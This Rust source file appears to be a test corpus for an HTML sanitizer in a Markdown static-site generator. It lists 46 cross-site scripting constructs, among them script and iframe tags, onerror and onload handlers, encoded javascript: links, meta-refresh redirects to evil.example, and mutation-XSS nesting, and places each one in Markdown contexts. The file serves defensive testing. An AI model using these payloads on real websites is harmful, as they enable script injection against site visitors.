//! The corpus: constructs, and the places where each may stand. A construct is one line of this
//! table. `evil` marks what must not come through in any attribute.

#![allow(unreachable_pub, clippy::unwrap_used)]

/// Words that no attribute of a page may hold.
pub const WORDS: [&str; 3] = ["evil", "javascript:", "vbscript:"];

/// Texts that try to become markup.
pub const CONSTRUCTS: [&str; 46] = [
    // References and notes that one part of the text has and another part does not see.
    "甲[<script src=\"/evil.js\"></script>]乙\n\n[<script src=\"/evil.js\"></script>]: /a/",
    "[<meta http-equiv=refresh content=\"0;url=https://evil.example/\">]: /a/\n\n# 题\n\n[点][<meta http-equiv=refresh content=\"0;url=https://evil.example/\">]",
    "[<img src=x onerror=evil()>]: /a/\n\n# 题\n\n甲[<img src=x onerror=evil()>]乙",
    "[^<script>evil()</script>]: 注\n\n甲[^<script>evil()</script>]乙",
    "# 题\n\n甲[^<b onclick=evil()>]乙\n\n[^<b onclick=evil()>]: 注",
    "[a]: javascript:evil()\n\n# 题\n\n[点][a] ![图][a]",
    "[`<script>evil()</script>`]: /a/\n\n# 题\n\n[`<script>evil()</script>`]",
    // Elements that run, load or send.
    "甲<script>evil()</script>乙",
    "甲<script src=https://evil.example/a.js></script>乙",
    "<script>\nevil()\n</script>\n",
    "甲<style>@import 'https://evil.example/'</style>乙",
    "甲<link rel=stylesheet href=https://evil.example/>乙",
    "甲<iframe src=https://evil.example/></iframe>乙",
    "甲<iframe srcdoc=\"<script>evil()</script>\"></iframe>乙",
    "甲<object data=https://evil.example/></object><embed src=https://evil.example/>乙",
    "甲<base href=https://evil.example/>乙",
    "甲<meta http-equiv=refresh content=\"0;url=https://evil.example/\">乙",
    "甲<form action=https://evil.example/><input name=evil><button formaction=javascript:evil()>乙</button></form>丙",
    "甲<svg onload=evil()><script>evil()</script></svg>乙",
    "甲<svg><a xlink:href=\"javascript:evil()\"><text>点</text></a></svg>乙",
    "甲<math><mtext><table><mglyph><style><img src=x onerror=evil()></style></mglyph></table></mtext></math>乙",
    "甲<video src=https://evil.example/><source onerror=evil()></video>乙",
    "甲<template><script>evil()</script></template>乙",
    "甲<noscript><p title=\"</noscript><img src=x onerror=evil()>\"></noscript>乙",
    // Attributes that do.
    "甲<b onclick=evil()>乙</b>",
    "甲<a href=\"javascript:evil()\">乙</a>",
    "甲<a href=\"java\tscript:evil()\">乙</a>",
    "甲<a href=\"&#106;avascript:evil()\">乙</a>",
    "甲<a href=\"data:text/html,<script>evil()</script>\">乙</a>",
    "甲<a href=\"//evil.example/\">乙</a><a href=\"/\\evil.example/\">丙</a>",
    "[乙](javascript:evil%28%29) ![图](https://evil.example/a.png) ![图](//evil.example/a.png)",
    "[乙](<java&#115;cript:evil()> \"题\") <javascript:evil()>",
    "甲<img src=\"/a.png\" srcset=\"https://evil.example/a.png 2x\" onerror=evil()>乙",
    "甲<td background=https://evil.example/ style=\"background:url(https://evil.example/)\">乙</td>",
    "甲<p style=\"position:fixed;inset:0\" hidden>乙</p>",
    // What looks like a part of the page.
    "甲<a id=evil-anchor name=evil class=\"permalink evil\">乙</a><div id=content class=\"evil\">丙</div>",
    "甲<form id=evil><input name=attributes></form><img name=evil id=evil>乙",
    // Tags that do not end, or end what is not theirs.
    "甲</div></main></body></html><script>evil()</script>乙",
    "甲<b title='evil",
    "甲<!-- 乙 --!><script>evil()</script>丙",
    "甲<![CDATA[<script>evil()</script>]]>乙<?php evil() ?>丙<!DOCTYPE evil>丁",
    "甲<a href='\"><script>evil()</script>'>乙</a>",
    "甲`</code><script>evil()</script>`乙",
    "```html\"><script>evil()</script>\n</code></pre><script>evil()</script>\n```\n",
    // Characters that no page should hold.
    "甲&#1;&#27;[31m乙&#0;丙&#x80;丁&#xFFFE;",
    "甲<b>\u{1}乙\u{8}</b>\u{7f}丙",
];

/// A place where a construct may stand.
pub struct Place {
    /// Its name in the file's path.
    name: &'static str,
    /// The text, with the construct for `@`.
    text: &'static str,
    /// How lines after the first begin.
    before: &'static str,
}

/// The front matter of a document.
const MATTER: &str = "---\ntitle: 题\nkind: notice\nissuer: 某局\npublished: 2020-03-20\n---\n";

/// Every place.
pub const PLACES: [Place; 14] = [
    Place { name: "body", text: "@\n\n后文。\n", before: "" },
    Place { name: "wrapper", text: "@\n\n# 正题\n\n后文。\n", before: "" },
    Place { name: "behind", text: "# 正题\n\n前文。\n\n@\n", before: "" },
    Place { name: "heading", text: "## 一、@\n\n后文。\n", before: "" },
    Place { name: "run-in", text: "1.@。后文。\n", before: "" },
    Place { name: "quote", text: "> @\n\n后文。\n", before: "> " },
    Place { name: "item", text: "- @\n- 后文。\n", before: "  " },
    Place { name: "note", text: "前文[^n]。\n\n[^n]: @\n\n后文。\n", before: "    " },
    Place { name: "cell", text: "| 项 | 数 |\n|--|--|\n| @ | 1 |\n\n后文。\n", before: "" },
    Place { name: "link", text: "[前@后](/)，后文。\n", before: "" },
    Place { name: "strong", text: "**前@后**，后文。\n", before: "" },
    Place { name: "within", text: "<div>\n\n@\n\n</div>\n\n后文。\n", before: "" },
    Place { name: "_index", text: "@\n\n# 正题\n\n后文。\n", before: "" },
    Place { name: "plain", text: "@\n\n# 正题\n\n后文。\n", before: "" },
];

impl Place {
    /// The path of the file that holds a construct here.
    pub fn path(&self, slug: &str, number: usize) -> String {
        match self.name {
            "_index" => format!("content/{slug}/_index.md"),
            "plain" => format!("content/plain-{slug}.md"),
            name => format!("content/{slug}/2019/{name}{number}.md"),
        }
    }

    /// The file with the construct.
    pub fn file(&self, construct: &str) -> String {
        let inner = match self.name {
            // A cell, a heading and the text of a link are one line.
            "cell" => construct.replace('\n', " ").replace('|', "\\|"),
            "heading" | "link" | "strong" | "run-in" => construct.replace('\n', " "),
            _ => construct.replace('\n', &format!("\n{}", self.before)),
        };
        let text = self.text.replace('@', &inner);
        match self.name {
            "_index" => format!("---\nname: 某市\nlevel: prefecture\n---\n{text}"),
            "plain" => format!("---\ntitle: 页\n---\n{text}"),
            _ => format!("{MATTER}{text}"),
        }
    }
}
